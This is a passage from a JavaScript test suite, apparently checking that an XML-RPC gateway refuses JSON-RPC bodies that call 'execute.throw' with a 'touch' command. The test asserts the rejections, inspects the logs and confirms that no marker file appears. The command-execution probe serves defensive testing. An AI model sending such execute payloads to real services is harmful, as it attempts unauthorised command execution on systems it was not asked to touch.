    for (const { user, password, policy } of USERS) {
      const t = target(behind, `json-${policy}`);
      const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'execute.throw', params: ['', 'touch', t.marker] });
      const auth = { authorization: basicAuth(user, password) };

      const asJson = await post(gateway.url(), body, { ...auth, 'content-type': 'application/json' });
      assert.equal(asJson.status, 415, `${policy}: application/json is not a body type the gateway reads`);

      // Labelled as XML it is not XML-RPC: a parse fault, never relayed.
      const from = gateway.logs.length;
      const asXml = await post(gateway.url(), body, auth);
      assert.equal(asXml.status, 200);
      assert.equal(asXml.headers.get('x-gateway-error'), 'GW_XMLRPC_INVALID');
      faultOf(asXml.body);
      await eventually(() => gateway.logs.slice(from).some((entry) => entry.user === user && entry.level === 40), 1000);
      const line = gateway.logs.slice(from).find((entry) => entry.user === user && entry.level === 40);
      assert.equal(line?.outcome, 'invalid');
      targets.push(t);
    }
    await sleep(QUIET_MS);
    for (const t of targets) assert.equal(existsSync(t.marker), false);
  });
});
